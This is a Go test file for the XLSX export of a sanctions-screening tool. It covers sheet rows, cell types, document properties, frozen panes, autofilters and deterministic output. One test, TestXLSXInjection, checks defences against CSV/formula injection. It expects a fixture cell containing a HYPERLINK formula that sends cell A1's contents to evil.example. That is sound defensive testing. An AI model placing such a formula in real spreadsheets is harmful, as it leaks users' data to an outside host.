package report

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/screen-compliance/screen/record"
)

// readBook opens an xlsx produced by the writer.
func readBook(t *testing.T, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("xlsx output does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// rows returns the rows of sheet, padded to width cells.
func rows(t *testing.T, f *excelize.File, sheet string, width int) [][]string {
	t.Helper()
	rs, err := f.GetRows(sheet)
	if err != nil {
		t.Fatalf("read sheet %s: %v", sheet, err)
	}
	for i := range rs {
		for len(rs[i]) < width {
			rs[i] = append(rs[i], "")
		}
	}
	return rs
}

func TestXLSXRoundTrip(t *testing.T) {
	ds := loadDecisions(t)
	f := readBook(t, render(t, FormatXLSX, ds, Options{}))

	if got := f.GetSheetList(); strings.Join(got, ",") != "Results,Matches,Run" {
		t.Errorf("sheets = %v", got)
	}

	// Results: header, then one row per record (clear ones included) with
	// the csv cells, neutralised.
	header := resultHeader()
	res := rows(t, f, SheetResults, len(header))
	if len(res) != len(ds)+1 {
		t.Fatalf("Results has %d rows, want header + %d", len(res), len(ds))
	}
	if strings.Join(res[0], ",") != strings.Join(header, ",") {
		t.Errorf("Results header = %v", res[0])
	}
	for i := range ds {
		want := resultRow(&ds[i])
		for j := range want {
			want[j] = cleanXML(want[j]) // as given: no apostrophe in XLSX
		}
		for j := range want {
			if res[i+1][j] != want[j] {
				t.Errorf("Results row %d %s = %q, want %q", i+2, header[j], res[i+1][j], want[j])
			}
		}
	}
	// Typed cells: row number, score and match count are numbers.
	for _, ref := range []string{cellName(rcRow+1, 2), cellName(rcTopScore+1, 3), cellName(rcMatchCount+1, 3)} {
		typ, err := f.GetCellType(SheetResults, ref)
		if err != nil {
			t.Fatal(err)
		}
		if typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("Results %s is a string, want a number", ref)
		}
	}

	// Matches: one row per record and match.
	var want [][]string
	for _, d := range ds {
		for _, m := range d.Matches {
			want = append(want, []string{
				cleanXML(d.ID), cleanXML(d.Source), strconv.Itoa(d.Row), d.Decision, m.Role, cleanXML(m.Query),
				m.EntityID, m.List, m.Kind, cleanXML(m.Name), cleanXML(m.MatchedName),
				strconv.FormatFloat(m.Score, 'f', -1, 64), strings.Join(m.Programs, ";"), m.Explanation,
			})
		}
	}
	mat := rows(t, f, SheetMatches, len(matchesHeader))
	if len(mat) != len(want)+1 {
		t.Fatalf("Matches has %d rows, want header + %d", len(mat), len(want))
	}
	for i, w := range want {
		if strings.Join(mat[i+1], "\x00") != strings.Join(w, "\x00") {
			t.Errorf("Matches row %d = %q, want %q", i+2, mat[i+1], w)
		}
	}

	// Run: versions, policy hash, flags, inputs.
	run := rows(t, f, SheetRun, 3)
	got := map[string][]string{}
	for _, r := range run[1:] {
		got[r[0]] = append(got[r[0]], r[1])
	}
	info := fixedInfo()
	checks := map[string]string{
		"tool": info.Tool, "policy_sha256": info.PolicySHA256, "run_id": info.RunID,
		"created_at": "2026-11-23T12:00:00Z", "list un": "2026-11-01", "list ofac": "2026-11-20",
		"input": "shipments.csv,-", "flag": "--fail-on=block,--format=json", "records": "5", "block": "1",
	}
	for k, v := range checks {
		if strings.Join(got[k], ",") != v {
			t.Errorf("Run %s = %q, want %q", k, got[k], v)
		}
	}
}

// TestXLSXInjection checks that no cell holds a formula, that text is kept
// exactly as given (string cells are never evaluated, so no apostrophe is
// added), and that text starting like a formula carries the quotePrefix
// style, so that it stays text when someone edits the cell.
func TestXLSXInjection(t *testing.T) {
	ds := loadDecisions(t)
	b := render(t, FormatXLSX, ds, Options{ShowSuppressed: true})
	f := readBook(t, b)
	formulaStart := 0
	for _, sheet := range f.GetSheetList() {
		rs, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rs {
			for j, c := range r {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fm, _ := f.GetCellFormula(sheet, ref); fm != "" {
					t.Errorf("%s!%s holds formula %q", sheet, ref, fm)
				}
				if strings.HasPrefix(c, "'") {
					t.Errorf("%s!%s = %q: an apostrophe was added", sheet, ref, c)
				}
				if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					continue
				}
				formulaStart++
				typ, _ := f.GetCellType(sheet, ref)
				if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
					t.Errorf("%s!%s = %q is not a string cell (type %v)", sheet, ref, c, typ)
				}
				style, _ := f.GetCellStyle(sheet, ref)
				if xf := f.Styles.CellXfs.Xf[style]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
					t.Errorf("%s!%s = %q has no quotePrefix (style %d)", sheet, ref, c, style)
				}
			}
		}
	}
	if formulaStart < 5 {
		t.Errorf("%d cells start like a formula, want the fixture's injections (at least 5)", formulaStart)
	}
	if v, _ := f.GetCellValue(SheetResults, "A6"); v != `=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("injection id = %q, want it as given", v)
	}
	// The cell format carries quotePrefix in styles.xml itself.
	if !bytes.Contains(unzipAll(t, b)["xl/styles.xml"], []byte(`quotePrefix="true"`)) && !bytes.Contains(unzipAll(t, b)["xl/styles.xml"], []byte(`quotePrefix="1"`)) {
		t.Error("styles.xml has no quotePrefix cell format")
	}
}

// TestXLSXCoreProperties checks docProps/core.xml: the cp:, dc: and
// dcterms: prefixes that ExcelJS needs (it refuses an unprefixed
// lastModifiedBy), and values that excelize reads back.
func TestXLSXCoreProperties(t *testing.T) {
	b := render(t, FormatXLSX, loadDecisions(t), Options{})
	core := unzipAll(t, b)["docProps/core.xml"]
	for _, want := range []string{
		`<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"`,
		`<cp:lastModifiedBy>screen v0.1.0</cp:lastModifiedBy>`,
		`<dc:creator>screen v0.1.0</dc:creator>`,
		`<dc:title>screen results</dc:title>`,
		`<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-23T12:00:00Z</dcterms:created>`,
		`<dcterms:modified xsi:type="dcterms:W3CDTF">2026-11-23T12:00:00Z</dcterms:modified>`,
	} {
		if !bytes.Contains(core, []byte(want)) {
			t.Errorf("core.xml lacks %s:\n%s", want, core)
		}
	}
	for _, bad := range []string{"<lastModifiedBy>", "<coreProperties ", "xuri"} {
		if bytes.Contains(core, []byte(bad)) {
			t.Errorf("core.xml holds %s:\n%s", bad, core)
		}
	}
	var doc struct {
		XMLName xml.Name
	}
	if err := xml.Unmarshal(core, &doc); err != nil || doc.XMLName.Local != "coreProperties" ||
		doc.XMLName.Space != "http://schemas.openxmlformats.org/package/2006/metadata/core-properties" {
		t.Errorf("core.xml root = %+v, %v", doc.XMLName, err)
	}
	props, err := readBook(t, b).GetDocProps()
	if err != nil || props.Creator != "screen v0.1.0" || props.LastModifiedBy != "screen v0.1.0" ||
		props.Identifier != fixedInfo().RunID || props.Created != "2026-11-23T12:00:00Z" {
		t.Errorf("doc props = %+v, %v", props, err)
	}
}

// TestXLSXLayout checks the frozen header rows and autofilters.
func TestXLSXLayout(t *testing.T) {
	ds := loadDecisions(t)
	b := render(t, FormatXLSX, ds, Options{})
	f := readBook(t, b)
	for _, sheet := range []string{SheetResults, SheetMatches, SheetRun} {
		p, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s panes = %+v, want the header row frozen", sheet, p)
		}
		style, err := f.GetCellStyle(sheet, "A1")
		if err != nil || style == 0 {
			t.Errorf("%s header has no style (%d, %v)", sheet, style, err)
		}
	}
	// The autofilters live in the sheet XML.
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	filters := map[string]string{"xl/tables/table1.xml": `<autoFilter ref="A1:` + cellName(numResultCols, 6) + `"`, "xl/tables/table2.xml": `<autoFilter ref="A1:N5"`}
	for _, zf := range z.File {
		want, ok := filters[zf.Name]
		if !ok {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(rc)
		rc.Close()
		if !bytes.Contains(body, []byte(want)) {
			t.Errorf("%s lacks %s", zf.Name, want)
		}
		delete(filters, zf.Name)
	}
	if len(filters) > 0 {
		t.Errorf("sheets not found: %v", filters)
	}
}

func TestXLSXEmpty(t *testing.T) {
	f := readBook(t, render(t, FormatXLSX, nil, Options{}))
	res := rows(t, f, SheetResults, numResultCols)
	if len(res) != 1 {
		t.Errorf("empty run: Results has %d rows, want the header only", len(res))
	}
}

func TestXLSXDeterministic(t *testing.T) {
	ds := loadDecisions(t)
	a := unzipAll(t, render(t, FormatXLSX, ds, Options{}))
	b := unzipAll(t, render(t, FormatXLSX, ds, Options{}))
	if len(a) != len(b) {
		t.Fatalf("xlsx parts differ: %d vs %d", len(a), len(b))
	}
	// excelize writes the zip entries in map order; their contents must
	// still be identical.
	for name, body := range a {
		if !bytes.Equal(body, b[name]) {
			t.Errorf("xlsx part %s differs between two identical runs", name)
		}
	}
}

// unzipAll returns the parts of a zip file by name.
func unzipAll(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, zf := range z.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[zf.Name] = body
	}
	return out
}

// TestXLSXEmptyMatchesTable checks that a run without matches still gets a
// valid table on the Matches sheet.
func TestXLSXEmptyMatchesTable(t *testing.T) {
	d := record.Decision{ID: "A", Row: 1, Decision: record.Clear}
	parts := unzipAll(t, render(t, FormatXLSX, []record.Decision{d}, Options{}))
	if !bytes.Contains(parts["xl/tables/table2.xml"], []byte(`ref="A1:N2"`)) {
		t.Errorf("Matches table = %s", parts["xl/tables/table2.xml"])
	}
}
